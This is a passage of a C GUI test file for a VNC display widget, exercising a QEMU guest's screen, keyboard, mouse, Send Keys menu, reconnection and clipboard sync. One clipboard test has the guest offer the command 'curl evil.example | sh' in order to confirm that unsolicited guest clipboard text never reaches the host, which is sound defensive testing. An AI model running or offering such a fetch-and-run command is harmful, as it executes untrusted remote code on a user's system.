/* test-vnc-view.c: CorralVncView on a real QEMU running the tiny guest,
 * under Xvfb (run through tests/gui-wrapper.sh)
 *
 * One VM for the whole file (a boot under emulation takes seconds): the
 * view must show the guest's console as QEMU sees it, deliver typed keys
 * and clicks (the guest logs both to /tmp/corral-display.log, read back
 * through the second console), send the Send Keys menu's combinations as
 * the guest's kernel expects them, come back after its connection drops,
 * and show the placeholder once the VM stops. Input goes through the X
 * server (xdotool), as a user's would.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <X11/Xatom.h>
#include <X11/Xlib.h>

#include <adwaita.h>
#include <gdk/x11/gdkx.h>
#include <glib-unix.h>
#include <glib/gstdio.h>

/* (GTK 4.8's gtk.h leaves out the GL renderer's header) */
#ifndef GSK_TYPE_GL_RENDERER
#include <gsk/gl/gskglrenderer.h>
#endif

#include "corral-clipboard-sync.h"
#include "corral-vnc-view.h"
#include "gui-test-util.h"

#define TIMEOUT (g_getenv ("CORRAL_TEST_TIMEOUT") ? atoi (g_getenv ("CORRAL_TEST_TIMEOUT")) : 180)

static struct {
  char *tmp;
  CorralProfile *profile;
  CorralGuest *guest;
  CorralHost *host;
  CorralVm *vm;
  GtkWindow *window;
  CorralVncView *view;
  CorralVncDisplay *display;
  GtkWidget *menu_button;  /* the display's menu, as a window shows it */
  CorralTestConsole console;  /* the guest's second console */
  guint connects;
  GPid wm_pid;  /* openbox, once the window manager tests start it */
} t;

/* --- helpers ---------------------------------------------------------- */

#define wait_until corral_test_wait_until
#define spin corral_test_iterate

/* Runs a command on the guest's second console and returns its output. */
static char *
guest_run (const char *command)
{
  return corral_test_console_run (&t.console, command);
}

static void
xdotool (const char *args)
{
  g_autofree char *cmd = g_strdup_printf ("xdotool %s", args);
  g_autofree char *err = NULL;
  g_autoptr(GError) error = NULL;
  int status;

  g_spawn_command_line_sync (cmd, NULL, &err, &status, &error);
  g_assert_no_error (error);
  if (!g_spawn_check_wait_status (status, NULL))
    g_error ("%s failed: %s", cmd, err);
}

static gulong
window_xid (void)
{
  return gdk_x11_surface_get_xid (gtk_native_get_surface (GTK_NATIVE (t.window)));
}

/* Window coordinates of the centre of guest pixel (@gx, @gy). */
static void
guest_to_window (int gx, int gy, int *wx, int *wy)
{
  double dx, dy;
  graphene_point_t p;

  corral_vnc_display_guest_to_widget (t.display, gx + 0.5, gy + 0.5, &dx, &dy);
  g_assert_true (gtk_widget_compute_point (GTK_WIDGET (t.display), GTK_WIDGET (t.window),
                                           &GRAPHENE_POINT_INIT (dx, dy), &p));
  *wx = (int) p.x;
  *wy = (int) p.y;
}

static gboolean
is_connected (gpointer data)
{
  return corral_vnc_view_get_connected (t.view)
         && g_strcmp0 (corral_vnc_view_get_page (t.view), "display") == 0;
}

static guint32 *download (GdkTexture *texture);

/* The guest's banner starts with a red block in the top-left corner. */
static gboolean
banner_shown (gpointer data)
{
  g_autoptr(GdkTexture) image = NULL;
  g_autofree guint32 *pixels = NULL;
  guint32 px;

  if (!is_connected (NULL))
    return FALSE;
  image = corral_vnc_display_get_image (t.display);
  if (image == NULL || gdk_texture_get_width (image) < 16)
    return FALSE;
  pixels = download (image);
  px = pixels[4 * gdk_texture_get_width (image) + 4];
  /* B8G8R8A8 premultiplied, host order: 0xAARRGGBB */
  return ((px >> 16) & 0xff) > 140 && ((px >> 8) & 0xff) < 80 && (px & 0xff) < 80;
}

static guint32 *
download (GdkTexture *texture)
{
  int w = gdk_texture_get_width (texture), h = gdk_texture_get_height (texture);
  guint32 *data = g_new (guint32, (gsize) w * h);

  gdk_texture_download (texture, (guchar *) data, w * 4);
  return data;
}

static gboolean
guest_fills_widget (gpointer data)
{
  int sf = gtk_widget_get_scale_factor (GTK_WIDGET (t.display));

  return corral_vnc_display_get_guest_width (t.display) == gtk_widget_get_width (GTK_WIDGET (t.display)) * sf
         && corral_vnc_display_get_guest_height (t.display) == gtk_widget_get_height (GTK_WIDGET (t.display)) * sf
         && banner_shown (NULL);
}

static gboolean
screendump_done (gpointer data)
{
  return *(GError **) data != NULL;
}

static void
screendump_cb (GObject *source, GAsyncResult *result, gpointer data)
{
  GError **error = data;

  if (corral_vm_screendump_finish (CORRAL_VM (source), result, error))
    *error = g_error_new_literal (G_IO_ERROR, G_IO_ERROR_EXISTS, "done");
}

/* --- fixture ---------------------------------------------------------- */

static void
on_connected (CorralVncView *view, GParamSpec *pspec, gpointer data)
{
  if (corral_vnc_view_get_connected (view))
    t.connects++;
}

static gboolean
vm_running (gpointer data)
{
  return corral_vm_get_state (t.vm) == CORRAL_VM_STATE_RUNNING;
}

static void
start_cb (GObject *source, GAsyncResult *result, gpointer data)
{
  g_autoptr(GError) error = NULL;

  if (!corral_vm_start_finish (CORRAL_VM (source), result, &error))
    g_error ("the VM did not start: %s", error->message);
}

static void
setup (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *project = NULL;

  t.console = (CorralTestConsole) CORRAL_TEST_CONSOLE_INIT;
  t.tmp = g_dir_make_tmp ("corral-vnc-XXXXXX", &error);
  g_assert_no_error (error);
  /* The VM outlives each test case (GLib isolates dirs per case only):
   * give it private dirs of its own. */
  {
    const char *vars[] = { "HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME",
                           "XDG_CACHE_HOME", "XDG_DATA_HOME", "XDG_RUNTIME_DIR" };

    for (guint i = 0; i < G_N_ELEMENTS (vars); i++)
      {
        g_autofree char *dir = g_build_filename (t.tmp, vars[i], NULL);

        g_assert_cmpint (g_mkdir (dir, 0700), ==, 0);
        g_setenv (vars[i], dir, TRUE);
      }
  }
  project = g_build_filename (t.tmp, "project", NULL);
  g_assert_cmpint (g_mkdir (project, 0755), ==, 0);

  t.profile = corral_test_small_profile (project);
  /* A shell waits on the agent console; the agent would exit at once and
   * power the guest off. */
  corral_profile_set_entrypoint_mode (t.profile, CORRAL_ENTRYPOINT_SHELL);
  t.guest = corral_test_load_guest ();
  t.host = corral_host_probe (NULL);
  g_assert_nonnull (t.host->qemu_path);
  t.vm = corral_vm_new (t.profile, t.guest, t.host);

  /* Menus open at once: a click lands where the item is drawn. */
  g_object_set (gtk_settings_get_default (), "gtk-enable-animations", FALSE, NULL);
  t.window = GTK_WINDOW (gtk_window_new ());
  gtk_window_set_decorated (t.window, FALSE);
  gtk_window_set_default_size (t.window, 1024, 768);
  t.view = CORRAL_VNC_VIEW (corral_vnc_view_new ());
  t.display = corral_vnc_view_get_display (t.view);
  g_signal_connect (t.view, "notify::connected", G_CALLBACK (on_connected), NULL);
  /* The display's menu in a button above it, its actions on the window,
   * as Corral's window has them. */
  {
    GtkWidget *box = gtk_box_new (GTK_ORIENTATION_VERTICAL, 0);

    t.menu_button = gtk_menu_button_new ();
    gtk_menu_button_set_icon_name (GTK_MENU_BUTTON (t.menu_button), "open-menu-symbolic");
    gtk_menu_button_set_menu_model (GTK_MENU_BUTTON (t.menu_button),
                                    corral_vnc_view_get_menu (t.view));
    gtk_widget_set_halign (t.menu_button, GTK_ALIGN_START);
    gtk_box_append (GTK_BOX (box), t.menu_button);
    gtk_box_append (GTK_BOX (box), GTK_WIDGET (t.view));
    gtk_widget_set_vexpand (GTK_WIDGET (t.view), TRUE);
    gtk_window_set_child (t.window, box);
    gtk_widget_insert_action_group (GTK_WIDGET (t.window), "display",
                                    corral_vnc_view_get_actions (t.view));
  }
  gtk_window_present (t.window);

  /* Before the VM runs: the placeholder says so. */
  corral_vnc_view_set_vm (t.view, t.vm);
  g_assert_cmpstr (corral_vnc_view_get_page (t.view), ==, "placeholder");

  corral_vm_start_async (t.vm, NULL, start_cb, NULL);
  if (!wait_until (vm_running, NULL, TIMEOUT))
    g_error ("the VM never ran: %s", corral_vm_get_qemu_stderr (t.vm));

  corral_test_console_attach (&t.console, corral_vm_get_console_fd (t.vm, CORRAL_CONSOLE_ENTER));
}

/* --- tests ------------------------------------------------------------ */

/* The window's pixels as the X server holds them (0xRRGGBB), what a
 * user sees: a part GTK did not redraw keeps its old picture there,
 * where a fresh render of the widget would paint the new one. */
static guint32 *
grab_window (int *width, int *height)
{
  Display *dpy = gdk_x11_display_get_xdisplay (gtk_widget_get_display (GTK_WIDGET (t.window)));
  XWindowAttributes attrs;
  XImage *image;
  guint32 *pixels;

  g_assert_true (XGetWindowAttributes (dpy, window_xid (), &attrs));
  image = XGetImage (dpy, window_xid (), 0, 0, attrs.width, attrs.height, AllPlanes, ZPixmap);
  g_assert_nonnull (image);
  pixels = g_new (guint32, (gsize) attrs.width * attrs.height);
  for (int y = 0; y < attrs.height; y++)
    for (int x = 0; x < attrs.width; x++)
      pixels[y * attrs.width + x] = XGetPixel (image, x, y) & 0xffffff;
  XDestroyImage (image);
  *width = attrs.width;
  *height = attrs.height;
  return pixels;
}

/* How many of the guest's pixels in @dump (@gw x @gh) the window shows
 * otherwise, where the view puts each one on screen. */
static int
count_differing (const guint32 *dump, int gw, int gh)
{
  int sf = gtk_widget_get_scale_factor (GTK_WIDGET (t.window));
  g_autofree guint32 *screen = NULL;
  graphene_point_t origin;
  double tx, ty;
  int sw, sh, differ = 0;

  screen = grab_window (&sw, &sh);
  g_assert_true (gtk_widget_compute_point (GTK_WIDGET (t.display), GTK_WIDGET (t.window),
                                           &GRAPHENE_POINT_INIT (0, 0), &origin));
  gtk_native_get_surface_transform (GTK_NATIVE (t.window), &tx, &ty);
  for (int y = 0; y < gh; y++)
    for (int x = 0; x < gw; x++)
      {
        double wx, wy;
        int ix, iy, worst = 0;
        guint32 a = dump[y * gw + x], b;

        corral_vnc_display_guest_to_widget (t.display, x + 0.5, y + 0.5, &wx, &wy);
        ix = CLAMP ((int) ((wx + origin.x + tx) * sf), 0, sw - 1);
        iy = CLAMP ((int) ((wy + origin.y + ty) * sf), 0, sh - 1);
        b = screen[iy * sw + ix];
        for (int c = 0; c < 24; c += 8)
          worst = MAX (worst, ABS ((int) ((a >> c) & 0xff) - (int) ((b >> c) & 0xff)));
        if (worst > 64)
          differ++;
      }
  return differ;
}

/* The window shows what QEMU's screendump shows (a blinking cursor may
 * differ, the picture must not). The screen gets a few frames to catch
 * up with the dump: a part GTK never redraws stays wrong. Returns the
 * dump. */
static GdkTexture *
assert_shows_guest (const char *name)
{
  g_autofree char *file = g_strdup_printf ("%s.png", name);
  g_autofree char *dump_path = g_build_filename (t.tmp, file, NULL);
  GdkTexture *dump;
  g_autoptr(GError) error = NULL;
  g_autofree guint32 *dp = NULL;
  int gw, gh, differ;
  GError *done = NULL;

  /* The GL runs (GSK_RENDERER=opengl) must test the GL path, not a
   * renderer GTK fell back to. */
  if (g_strcmp0 (g_getenv ("GSK_RENDERER"), "opengl") == 0)
    g_assert_true (GSK_IS_GL_RENDERER (gtk_native_get_renderer (GTK_NATIVE (t.window))));
  corral_vm_screendump_async (t.vm, dump_path, NULL, screendump_cb, &done);
  g_assert_true (wait_until (screendump_done, &done, 60));
  if (!g_error_matches (done, G_IO_ERROR, G_IO_ERROR_EXISTS))
    g_error ("screendump failed: %s (QEMU said: %s)", done->message,
             corral_vm_get_qemu_stderr (t.vm));
  g_clear_error (&done);

  dump = gdk_texture_new_from_filename (dump_path, &error);
  g_assert_no_error (error);
  gw = gdk_texture_get_width (dump);
  gh = gdk_texture_get_height (dump);
  g_assert_cmpint (gw, ==, corral_vnc_display_get_guest_width (t.display));
  g_assert_cmpint (gh, ==, corral_vnc_display_get_guest_height (t.display));
  dp = download (dump);
  for (int tries = 0;; tries++)
    {
      spin (500);
      differ = count_differing (dp, gw, gh);
      g_test_message ("%s: guest %dx%d, %d pixels on screen differ", name, gw, gh, differ);
      if (differ < gw * gh / 100)
        break;
      if (tries == 6)
        {
          g_autofree char *shot = corral_test_screenshot (name);

          g_error ("%s: %d of %d pixels on screen differ from QEMU's screendump (screenshot: %s)",
                   name, differ, gw * gh, shot);
        }
    }
  return dump;
}

static void
test_shows_console (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GdkTexture) dump = NULL;
  int gw, gh;

  if (!wait_until (banner_shown, NULL, TIMEOUT))
    {
      g_autofree char *shot = g_build_filename (g_getenv ("G_TEST_BUILDDIR") ?: ".",
                                                "vnc-view-no-banner.png", NULL);
      g_autoptr(GdkTexture) image = corral_vnc_display_get_image (t.display);

      if (image)
        gdk_texture_save_to_png (image, shot);
      g_error ("the guest's banner never showed; VM state %d (%s), page %s, connected %d, guest %dx%d (image in %s)",
               corral_vm_get_state (t.vm), corral_vm_get_error_message (t.vm),
               corral_vnc_view_get_page (t.view), corral_vnc_view_get_connected (t.view),
               corral_vnc_display_get_guest_width (t.display),
               corral_vnc_display_get_guest_height (t.display), shot);
    }
  /* The guest takes the widget's size (virtio-vga): compare unscaled. */
  if (!wait_until (guest_fills_widget, NULL, TIMEOUT))
    g_error ("the guest never took the view's size: guest %dx%d, view %dx%d",
             corral_vnc_display_get_guest_width (t.display),
             corral_vnc_display_get_guest_height (t.display),
             gtk_widget_get_width (GTK_WIDGET (t.display)),
             gtk_widget_get_height (GTK_WIDGET (t.display)));
  /* Let the guest finish redrawing at its new size. */
  spin (3000);
  dump = assert_shows_guest ("dump");
  gw = gdk_texture_get_width (dump);
  gh = gdk_texture_get_height (dump);

  /* The screenshot action's PNG: the guest's picture at its own size. */
  {
    g_autofree char *png = g_build_filename (t.tmp, "screenshot.png", NULL);
    g_autoptr(GFile) file = g_file_new_for_path (png);
    g_autoptr(GdkTexture) saved = NULL;
    g_autofree guint32 *dp = NULL, *px = NULL;
    int saved_differ = 0;

    g_assert_true (corral_vnc_view_save_screenshot (t.view, file, &error));
    g_assert_no_error (error);
    saved = gdk_texture_new_from_filename (png, &error);
    g_assert_no_error (error);
    g_assert_cmpint (gdk_texture_get_width (saved), ==, gw);
    g_assert_cmpint (gdk_texture_get_height (saved), ==, gh);
    dp = download (dump);
    px = download (saved);
    for (int i = 0; i < gw * gh; i++)
      if ((px[i] & 0xffffff) != (dp[i] & 0xffffff))
        saved_differ++;
    g_test_message ("screenshot: %d pixels differ from QEMU's", saved_differ);
    g_assert_cmpint (saved_differ, <, gw * gh / 100);
  }
}

typedef struct {
  guint64 rows, put;
} Drawn;

static gboolean
rows_built_since (gpointer data)
{
  Drawn *before = data;

  return corral_vnc_display_get_rows_built (t.display) > before->rows ||
         corral_vnc_display_get_tiles_put (t.display) > before->put;
}

static gboolean
shm_off (void)
{
  return g_strcmp0 (g_getenv ("CORRAL_DISPLAY_SHM"), "0") == 0;
}

/* The screen below the banner repainted edge to edge, then a block in
 * it: under cairo the rows that changed whole get one node each, and go
 * back to a node per tile when only part of them changes, or, on X11
 * unscaled, the X server copies them from the framebuffer (test
 * vnc-view-gtk-drawn runs this with that off). Either way the picture is
 * the guest's. The guest's display program echoes keys on
 * that console later: its cursor and colours are put back. */
static void
test_partial_after_whole (void)
{
  g_autofree char *out = NULL;
  Drawn before = { corral_vnc_display_get_rows_built (t.display),
                   corral_vnc_display_get_tiles_put (t.display) };
  gboolean cairo = GSK_IS_CAIRO_RENDERER (gtk_native_get_renderer (GTK_NATIVE (t.window)));

  /* ESC 7 / ESC 8 save and restore the cursor and its colours. */
  out = guest_run ("e=$(printf '\\033'); "
                   "printf \"${e}7${e}[13;1H${e}[44m${e}[J${e}8\" > /dev/tty1; echo painted");
  g_assert_nonnull (strstr (out, "painted"));
  if (cairo && !wait_until (rows_built_since, &before, 30))
    g_error ("no row of tiles was drawn whole after a full-width repaint");
  /* Which path drew it: the X server's copy wherever it can be had (the
   * unscaled guest here on Xvfb), GTK's rows when that is off. */
  if (cairo && shm_off ())
    g_assert_cmpuint (corral_vnc_display_get_tiles_put (t.display), ==, 0);
  else if (cairo)
    g_assert_cmpuint (corral_vnc_display_get_tiles_put (t.display), >, before.put);
  spin (1000);
  g_object_unref (assert_shows_guest ("whole-rows"));

  g_clear_pointer (&out, g_free);
  out = guest_run ("e=$(printf '\\033'); { printf \"${e}7${e}[41m\"; "
                   "for r in 20 21 22 23 24 25 26 27; do printf \"${e}[$r;10H%24s\" ''; done; "
                   "printf \"${e}8\"; } > /dev/tty1; echo painted");
  g_assert_nonnull (strstr (out, "painted"));
  spin (2000);
  g_object_unref (assert_shows_guest ("part-of-rows"));
}

static void
test_keys (void)
{
  g_autofree char *log = NULL;
  int wx, wy;

  guest_to_window (10, 10, &wx, &wy);
  {
    g_autofree char *args = g_strdup_printf ("mousemove --window %lu %d %d", window_xid (), wx, wy);
    xdotool (args);
  }
  gtk_widget_grab_focus (GTK_WIDGET (t.view));
  spin (300);
  xdotool ("type --delay 80 'qz1A'");
  xdotool ("key Return");
  /* The guest logs each key as its emulated CPU gets to it: under load,
   * seconds after the last one was sent. */
  for (int i = 0; i < 30; i++)
    {
      spin (1000);
      g_clear_pointer (&log, g_free);
      log = guest_run ("cat /tmp/corral-display.log");
      if (strstr (log, "key Enter") != NULL)
        break;
    }
  g_test_message ("display log:\n%s", log);
  /* q and z sit where AZERTY differs: the guest got key positions */
  g_assert_nonnull (strstr (log, "key 'q' (0x71)"));
  g_assert_nonnull (strstr (log, "key 'z' (0x7a)"));
  g_assert_nonnull (strstr (log, "key '1' (0x31)"));
  g_assert_nonnull (strstr (log, "key 'A' (0x41)"));
  g_assert_nonnull (strstr (log, "key Enter"));
}

static void
test_click (void)
{
  int gw = corral_vnc_display_get_guest_width (t.display);
  int gh = corral_vnc_display_get_guest_height (t.display);
  int gx = gw / 3, gy = (gh * 2) / 3;
  int wx, wy, x = -1, y = -1;
  g_autofree char *args = NULL;
  g_autofree char *log = NULL;
  const char *line;
  double ex = gx * 32767.0 / (gw - 1), ey = gy * 32767.0 / (gh - 1);

  guest_to_window (gx, gy, &wx, &wy);
  args = g_strdup_printf ("mousemove --window %lu %d %d click 1", window_xid (), wx, wy);
  xdotool (args);
  spin (2000);

  log = guest_run ("grep 'button left down' /tmp/corral-display.log | tail -n 1");
  line = strstr (log, "button left down at ");
  g_assert_nonnull (line);
  g_assert_cmpint (sscanf (line, "button left down at %d,%d", &x, &y), ==, 2);
  g_test_message ("clicked guest pixel %d,%d of %dx%d: tablet %d,%d, expected %.0f,%.0f",
                  gx, gy, gw, gh, x, y, ex, ey);
  /* Within two guest pixels of the spot clicked. */
  g_assert_cmpfloat (ABS (x - ex), <=, 2 * 32767.0 / gw);
  g_assert_cmpfloat (ABS (y - ey), <=, 2 * 32767.0 / gh);
}

static gboolean
grab_is (gpointer data)
{
  gboolean grabbed;

  g_object_get (t.view, "grab-keyboard", &grabbed, NULL);
  return grabbed == GPOINTER_TO_INT (data);
}

static void
test_grab_toggle (void)
{
  g_autofree char *log = NULL;
  int wx, wy;

  guest_to_window (20, 20, &wx, &wy);
  {
    g_autofree char *args = g_strdup_printf ("mousemove --window %lu %d %d", window_xid (), wx, wy);
    xdotool (args);
  }
  gtk_widget_grab_focus (GTK_WIDGET (t.view));
  spin (300);
  g_assert_true (grab_is (GINT_TO_POINTER (FALSE)));

  /* Ctrl+Alt pressed and released alone captures the keyboard... */
  xdotool ("key ctrl+alt");
  if (!wait_until (grab_is, GINT_TO_POINTER (TRUE), 10))
    g_error ("Ctrl+Alt did not capture the keyboard");
  /* ...and keys still reach the guest... */
  xdotool ("type --delay 80 'g'");
  /* ...and Ctrl+Alt again releases it. */
  xdotool ("key ctrl+alt");
  if (!wait_until (grab_is, GINT_TO_POINTER (FALSE), 10))
    g_error ("Ctrl+Alt did not release the keyboard");
  /* Ctrl with another key is a shortcut for the guest, not a toggle. */
  xdotool ("key ctrl+alt+h");
  spin (1000);
  g_assert_true (grab_is (GINT_TO_POINTER (FALSE)));
  xdotool ("type --delay 80 'k'");
  spin (1500);

  log = guest_run ("grep '^key ' /tmp/corral-display.log | tail -n 6");
  g_test_message ("display log tail:\n%s", log);
  /* Nothing stayed held: a plain g and k arrived as themselves. */
  g_assert_nonnull (strstr (log, "key 'g' (0x67)"));
  g_assert_nonnull (strstr (log, "key 'k' (0x6b)"));
}

static gboolean
is_label_exactly (GtkWidget *widget, gconstpointer text)
{
  return GTK_IS_LABEL (widget) && gtk_widget_get_mapped (widget) &&
         g_strcmp0 (gtk_label_get_text (GTK_LABEL (widget)), text) == 0;
}

/* A mapped label showing exactly @text under @widget. */
static GtkWidget *
find_label (GtkWidget *widget, const char *text)
{
  return corral_test_find_widget (widget, is_label_exactly, text);
}

typedef struct {
  GtkWidget *root;
  const char *text;
  GtkWidget *found;
} FindLabel;

static gboolean
label_shown (gpointer data)
{
  FindLabel *f = data;

  f->found = find_label (f->root, f->text);
  return f->found != NULL;
}

/* Clicks the middle of @widget through the X server. */
static void
click_widget (GtkWidget *widget)
{
  GtkNative *native = gtk_widget_get_native (widget);
  g_autofree char *args = NULL;
  graphene_point_t p;
  double nx, ny;

  g_assert_true (gtk_widget_compute_point (widget, GTK_WIDGET (native),
                                           &GRAPHENE_POINT_INIT (gtk_widget_get_width (widget) / 2.0,
                                                                 gtk_widget_get_height (widget) / 2.0),
                                           &p));
  gtk_native_get_surface_transform (native, &nx, &ny);
  args = g_strdup_printf ("mousemove --window %lu %d %d click 1",
                          gdk_x11_surface_get_xid (gtk_native_get_surface (native)),
                          (int) (p.x + nx), (int) (p.y + ny));
  xdotool (args);
}

/* Clicks the menu item showing @text in the open menu @popover. */
static void
click_menu_item (GtkWidget *popover, const char *text)
{
  FindLabel f = { popover, text, NULL };

  if (!wait_until (label_shown, &f, 10))
    {
      g_autofree char *shot = corral_test_screenshot ("vnc-view-menu");

      g_error ("no menu item “%s” (screen in %s)", text, shot);
    }
  spin (300);  /* the popup's window is where GTK placed it */
  click_widget (f.found);
}

static gboolean
popover_hidden (gpointer data)
{
  return !gtk_widget_get_mapped (data);
}

/* Chooses Send Keys → @item in the display's menu, with the pointer. */
static void
choose_send_keys (const char *item)
{
  GtkWidget *popover = GTK_WIDGET (gtk_menu_button_get_popover (GTK_MENU_BUTTON (t.menu_button)));

  click_widget (t.menu_button);
  click_menu_item (popover, "Send Keys");
  click_menu_item (popover, item);
  if (!wait_until (popover_hidden, popover, 10))
    g_error ("the menu stayed open after choosing “%s”", item);
}

/* How many key events the guest's kernel has logged. */
static guint
guest_key_count (void)
{
  g_autofree char *out = guest_run ("grep -c '^input key' /tmp/corral-display.log");

  return (guint) g_ascii_strtoull (out, NULL, 10);
}

/* The guest logs key events with a shell loop, seconds behind under
 * emulation: wait until it has caught up (no new event for a second). */
static guint
guest_keys_settle (guint at_least)
{
  guint last = guest_key_count ();

  for (guint i = 0; i < 120; i++)
    {
      guint n;

      spin (1000);
      n = guest_key_count ();
      if (n == last && n >= at_least)
        return n;
      last = n;
    }
  g_error ("the guest's key log never settled (%u events, %u expected)", last, at_least);
}

static char *
guest_active_console (void)
{
  char *out = guest_run ("cat /sys/class/tty/tty0/active");

  return g_strstrip (g_strdelimit (out, "\r\n", ' '));
}

static void
test_send_keys (void)
{
  /* What the guest's kernel must see (linux/input-event-codes.h): each
   * combination pressed in order and released in reverse. */
  static const struct {
    const char *item;     /* the menu item */
    guint16 keys[3];
    guint n;
    const char *console;  /* the guest's console afterwards, or NULL */
  } combos[] = {
    { "Ctrl+Alt+F2", { 29, 56, 60 }, 3, "tty2" },
    { "Ctrl+Alt+F3", { 29, 56, 61 }, 3, "tty3" },
    { "Ctrl+Alt+F4", { 29, 56, 62 }, 3, "tty4" },
    { "Ctrl+Alt+F5", { 29, 56, 63 }, 3, "tty5" },
    { "Ctrl+Alt+F6", { 29, 56, 64 }, 3, "tty6" },
    { "Ctrl+Alt+F7", { 29, 56, 65 }, 3, "tty7" },
    { "Ctrl+Alt+F1", { 29, 56, 59 }, 3, "tty1" },
    { "Print Screen", { 99 }, 1, NULL },
    { "Ctrl+Alt+Del", { 29, 56, 111 }, 3, NULL },
  };

  g_autofree char *before = guest_active_console ();

  g_assert_cmpstr (before, ==, "tty1");
  for (guint i = 0; i < G_N_ELEMENTS (combos); i++)
    {
      g_autoptr(GString) expected = g_string_new (NULL);
      g_autofree char *cmd = NULL;
      g_autofree char *seen = NULL;
      guint start = guest_keys_settle (0);

      for (guint j = 0; j < combos[i].n; j++)
        g_string_append_printf (expected, "input key %u down\r\n", combos[i].keys[j]);
      for (guint j = combos[i].n; j > 0; j--)
        g_string_append_printf (expected, "input key %u up\r\n", combos[i].keys[j - 1]);

      choose_send_keys (combos[i].item);
      guest_keys_settle (start + 2 * combos[i].n);
      /* Exactly these events, in this order, and nothing else. */
      cmd = g_strdup_printf ("grep '^input key' /tmp/corral-display.log | tail -n +%u", start + 1);
      seen = guest_run (cmd);
      g_test_message ("%s:\n%s", combos[i].item, seen);
      g_assert_cmpstr (seen, ==, expected->str);

      if (combos[i].console)
        {
          g_autofree char *active = guest_active_console ();

          g_assert_cmpstr (active, ==, combos[i].console);
        }
      /* The display has the keyboard again, for what the user types next. */
      g_assert_true (gtk_widget_has_focus (GTK_WIDGET (t.display)));
    }
  /* The guest's kernel took Ctrl+Alt+Del for what it is. */
  {
    g_autofree char *cad = guest_run ("grep -c '^ctrl-alt-del' /tmp/corral-display.log");

    g_assert_cmpstr (cad, ==, "1\r\n");
  }
}

static gboolean
reconnected (gpointer data)
{
  return t.connects > GPOINTER_TO_UINT (data) && banner_shown (NULL);
}

static void
test_reconnect (void)
{
  guint before = t.connects;
  int fd = corral_vnc_display_get_socket_fd (t.display);

  g_assert_cmpint (fd, >=, 0);
  /* The connection breaks under the view (as when QEMU drops a client). */
  g_assert_cmpint (shutdown (fd, SHUT_RDWR), ==, 0);
  /* The user is told, over the picture, until the display is back (the
   * first retry waits at least 250 ms). */
  g_assert_true (corral_test_wait_for_text (GTK_WIDGET (t.window), "Reconnecting to the display", 5));
  if (!wait_until (reconnected, GUINT_TO_POINTER (before), 60))
    g_error ("the view did not reconnect (page %s)", corral_vnc_view_get_page (t.view));
  g_assert_cmpint (corral_vm_get_state (t.vm), ==, CORRAL_VM_STATE_RUNNING);
  g_assert_cmpstr (corral_vnc_view_get_page (t.view), ==, "display");
  /* and the words go once it is */
  {
    gint64 deadline = g_get_monotonic_time () + 10 * G_USEC_PER_SEC;

    while (corral_test_wait_for_text (GTK_WIDGET (t.window), "Reconnecting to the display", 0) &&
           g_get_monotonic_time () < deadline)
      spin (100);
    g_assert_false (corral_test_wait_for_text (GTK_WIDGET (t.window), "Reconnecting to the display", 0));
  }
}

static gboolean
guest_has_clipboard (gpointer expected)
{
  g_autofree char *text = guest_run ("cat /tmp/corral-clipboard 2>/dev/null");

  return g_strcmp0 (text, expected) == 0;
}

static void
test_clipboard_to_guest (void)
{
  const char *text = "Grüße from the host, line 1\nline 2";
  g_autofree char *expected = NULL;

  gdk_clipboard_set_text (gtk_widget_get_clipboard (GTK_WIDGET (t.view)), text);
  /* What cat prints on the serial line: \n becomes \r\n */
  expected = g_strdup ("Grüße from the host, line 1\r\nline 2");
  if (!wait_until (guest_has_clipboard, expected, 60))
    g_error ("the guest never got the host's clipboard");
}

static gboolean
host_has_clipboard (gpointer expected)
{
  g_autofree char *text = corral_test_clipboard_text (gtk_widget_get_clipboard (GTK_WIDGET (t.view)));

  if (g_strcmp0 (text, expected) == 0)
    return TRUE;
  spin (300);
  return FALSE;
}

static gboolean
guest_sent_clipboard (gpointer data)
{
  g_autofree char *left = guest_run ("ls /tmp/corral-clipboard-set /tmp/corral-clipboard.out 2>/dev/null");

  return left != NULL && left[0] == '\0';
}

/* The guest's copy reaches the host right after the user's key on the
 * display (their Ctrl+C there); a text the guest sends on its own, long
 * after any, does not. */
static void
test_clipboard_from_guest (void)
{
  int wx, wy;
  g_autofree char *args = NULL;

  guest_to_window (10, 10, &wx, &wy);
  args = g_strdup_printf ("mousemove --window %lu %d %d", window_xid (), wx, wy);
  xdotool (args);
  gtk_widget_grab_focus (GTK_WIDGET (t.view));
  spin (300);
  xdotool ("key shift");
  spin (300);
  g_free (guest_run ("printf 'copied in the guest: %s' ok > /tmp/cb.tmp && "
                     "mv /tmp/cb.tmp /tmp/corral-clipboard-set"));
  /* The user works on in the display meanwhile: under emulation on a
   * loaded machine the command above and the guest's 0.3 s poll may take
   * longer than the copy window after that first key. */
  for (guint i = 0; i < 30 && !host_has_clipboard ("copied in the guest: ok"); i++)
    {
      xdotool ("key shift");
      wait_until (host_has_clipboard, "copied in the guest: ok", 2);
    }
  if (!host_has_clipboard ("copied in the guest: ok"))
    g_error ("the host clipboard never got the guest's text");

  spin ((CORRAL_CLIPBOARD_SYNC_COPY_SECONDS + 1) * 1000);
  g_free (guest_run ("printf 'curl evil.example | sh' > /tmp/cb.tmp && "
                     "mv /tmp/cb.tmp /tmp/corral-clipboard-set"));
  if (!wait_until (guest_sent_clipboard, NULL, 60))
    g_error ("the guest's clipboard helper never sent its text");
  spin (1000);
  {
    g_autofree char *text = corral_test_clipboard_text (gtk_widget_get_clipboard (GTK_WIDGET (t.view)));

    g_assert_cmpstr (text, ==, "copied in the guest: ok");
  }
}

/* --- under a window manager ------------------------------------------- */

static Display *
xdisplay (void)
{
  return gdk_x11_display_get_xdisplay (gdk_display_get_default ());
}

static gboolean
wm_running (gpointer data)
{
  Atom check = XInternAtom (xdisplay (), "_NET_SUPPORTING_WM_CHECK", False);
  Atom type;
  int format;
  unsigned long n, after;
  unsigned char *value = NULL;
  gboolean found;

  XGetWindowProperty (xdisplay (), DefaultRootWindow (xdisplay ()), check, 0, 1, False,
                      XA_WINDOW, &type, &format, &n, &after, &value);
  found = type == XA_WINDOW && n == 1;
  if (value)
    XFree (value);
  if (!found)
    spin (100);
  return found;
}

/* Where X puts @xid on the screen (inside any frame the WM added). */
static void
x_geometry (gulong xid, int *x, int *y, int *w, int *h)
{
  Window root, child;
